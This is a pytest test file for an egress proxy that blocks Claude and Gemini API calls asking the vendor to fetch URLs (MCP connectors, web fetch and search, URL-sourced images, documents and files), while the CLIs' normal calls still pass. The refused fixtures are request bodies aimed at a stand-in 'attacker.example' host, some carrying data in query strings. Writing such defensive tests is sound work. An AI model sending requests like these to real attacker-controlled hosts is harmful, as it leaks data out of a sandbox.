"""A CLI's API must not fetch URLs for the container: the egress proxy, serving the real claude
and gemini routes, refuses a call that asks the vendor to reach an address (server-side MCP,
web fetch or search tools, URL sources) before anything is forwarded, and drops the beta flags
that enable them. The calls the CLIs really make still pass. Host side: the request goes to
the proxy's Unix socket as the exec supervisor's relay hands it over; the loopback fake vendors
answer."""

from __future__ import annotations

import http.client
import json
import socket
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from harness.fakes.anthropic_server import AnthropicHandler, text
from harness.fakes.gemini_server import GeminiHandler
from harness.fakes.loopback import LoopbackServer, Reply
from harness.sandbox.egress import SOCKET, make_control_dir, remove_control_dir, serve
from harness.stages import load_plan
from harness.vendors.claude_cli.command import claude_route
from harness.vendors.egress import PLACEHOLDER_KEY
from harness.vendors.gemini_cli.command import gemini_route
from harness.vendors.types import EgressRoute, Message, ModelRequest

KEY = "test-key-" + "3" * 24
STAGES = """\
planner: {{vendor: claude-cli, model: sonnet-4-5, timeout: 60s, base_url: "{claude}"}}
coder: {{vendor: gemini-cli, model: gemini-pro, timeout: 60s, base_url: "{gemini}"}}
"""
# The shape of the claude CLI's own call: custom tools, its usual beta flags.
CLAUDE_CALL: dict[str, Any] = {
    "model": "claude-sonnet-4-5", "max_tokens": 100, "stream": False,
    "system": [{"type": "text", "text": "You are Claude Code."}],
    "messages": [{"role": "user", "content": [{"type": "text", "text": "hi"}]}],
    "tools": [{"name": "Bash", "description": "run", "input_schema": {
        "type": "object", "properties": {"source": {"type": "string"}}}}]}
BETAS = "claude-code-20250219,mcp-client-2025-04-04,interleaved-thinking-2025-05-14," \
        "web-fetch-2025-09-10"
GEMINI_CALL: dict[str, Any] = {
    "contents": [{"role": "user", "parts": [{"text": "hi"}]}],
    "systemInstruction": {"parts": [{"text": "You are a coder."}]},
    "tools": [{"functionDeclarations": [{"name": "read_file", "parametersJsonSchema": {}}]}],
    "generationConfig": {"temperature": 1}}
GEMINI_PATH = "/v1beta/models/gemini-3.1-pro-preview:generateContent"


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[LoopbackServer, LoopbackServer]]:
    with LoopbackServer(AnthropicHandler) as claude, LoopbackServer(GeminiHandler) as gemini:
        yield claude, gemini


def route_of(stage: str, servers: tuple[LoopbackServer, LoopbackServer],
             tmp_path: Path) -> EgressRoute:
    claude, gemini = servers
    claude.reset()
    gemini.reset()
    config = tmp_path / "stages.yaml"
    config.write_text(STAGES.format(claude=claude.url, gemini=gemini.url), encoding="utf-8")
    settings = load_plan(config).stages[stage].attempts[0].settings()
    request = ModelRequest(settings, "sys", (Message("user", "hi"),), time.monotonic() + 60)
    make = claude_route if stage == "planner" else gemini_route
    return make(request, KEY, settings.base_url, f"{stage}-test")


def call(route: EgressRoute, path: str, body: bytes,
         headers: dict[str, str] | None = None) -> tuple[int, str]:
    control = make_control_dir()
    try:
        with serve(route, control):
            conn = http.client.HTTPConnection("localhost", timeout=20)
            conn.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            conn.sock.connect(str(control / SOCKET))
            conn.request("POST", path, body=body, headers={
                "content-type": "application/json", "x-api-key": PLACEHOLDER_KEY,
                **(headers or {})})
            response = conn.getresponse()
            answer = response.read().decode()
            conn.close()
    finally:
        remove_control_dir(control)
    return response.status, answer


def claude_call(**change: Any) -> bytes:
    return json.dumps({**CLAUDE_CALL, **change}).encode()


REFUSED_CLAUDE = {
    "mcp connector": claude_call(mcp_servers=[{"type": "url", "name": "x",
                                              "url": "https://attacker.example/mcp"}]),
    "web fetch": claude_call(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "web search": claude_call(tools=[{"type": "web_search_20250305", "name": "web_search",
                                      "max_uses": 8}]),
    "mcp toolset": claude_call(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
    "image by url": claude_call(messages=[{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?k=v"}},
        {"type": "text", "text": "describe"}]}]),
    "document by url in a tool result": claude_call(messages=[{"role": "user", "content": [
        {"type": "tool_result", "tool_use_id": "t1", "content": [
            {"type": "document", "source": {"type": "url",
                                            "url": "https://attacker.example/a.pdf"}}]}]}]),
    "a key twice": b'{"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [], '
                   b'"tools": [], "tools": [{"type": "web_fetch_20250910", "name": "f"}]}',
    "not json": b"model=claude",
}


@pytest.mark.parametrize("name", sorted(REFUSED_CLAUDE))
def test_claude_calls_that_make_the_api_fetch_are_refused(
        servers: tuple[LoopbackServer, LoopbackServer], tmp_path: Path, name: str) -> None:
    route = route_of("planner", servers, tmp_path)
    servers[0].queue(text("pong"))
    status, answer = call(route, "/v1/messages", REFUSED_CLAUDE[name])
    assert status == 403, answer
    assert "harness egress proxy refused" in answer
    assert servers[0].requests == []


def test_the_claude_clis_own_call_passes_without_the_fetch_betas(
        servers: tuple[LoopbackServer, LoopbackServer], tmp_path: Path) -> None:
    route = route_of("planner", servers, tmp_path)
    servers[0].queue(text("pong"))
    status, answer = call(route, "/v1/messages?beta=true", claude_call(),
                          {"anthropic-beta": BETAS})
    assert status == 200, answer
    (request,) = servers[0].posts()
    assert request.body == CLAUDE_CALL
    assert request.headers["anthropic-beta"] == \
        "claude-code-20250219,interleaved-thinking-2025-05-14"


def gemini_call(**change: Any) -> bytes:
    return json.dumps({**GEMINI_CALL, **change}).encode()


REFUSED_GEMINI = {
    "url context": gemini_call(tools=[{"urlContext": {}}]),
    "url context, snake case": gemini_call(tools=[{"url_context": {}}]),
    "google search": gemini_call(tools=[GEMINI_CALL["tools"][0], {"googleSearch": {}}]),
    "google search, snake case": gemini_call(tools=[{"google_search": {}}]),
    "search retrieval": gemini_call(tools=[{"googleSearchRetrieval": {}}]),
    "file by uri": gemini_call(contents=[{"role": "user", "parts": [
        {"fileData": {"mimeType": "text/html", "fileUri": "https://attacker.example/?k"}}]}]),
}


@pytest.mark.parametrize("name", sorted(REFUSED_GEMINI))
def test_gemini_calls_that_make_the_api_fetch_are_refused(
        servers: tuple[LoopbackServer, LoopbackServer], tmp_path: Path, name: str) -> None:
    route = route_of("coder", servers, tmp_path)
    servers[1].queue(Reply("text", {"text": "pong"}))
    status, answer = call(route, GEMINI_PATH, REFUSED_GEMINI[name])
    assert status == 403, answer
    assert "harness egress proxy refused" in answer
    assert servers[1].requests == []


def test_the_gemini_clis_own_call_passes(servers: tuple[LoopbackServer, LoopbackServer],
                                         tmp_path: Path) -> None:
    route = route_of("coder", servers, tmp_path)
    servers[1].queue(Reply("text", {"text": "pong"}))
    status, answer = call(route, GEMINI_PATH, gemini_call())
    assert status == 200, answer
    (request,) = servers[1].posts()
    assert request.body == GEMINI_CALL
    assert request.headers["x-goog-api-key"] == KEY
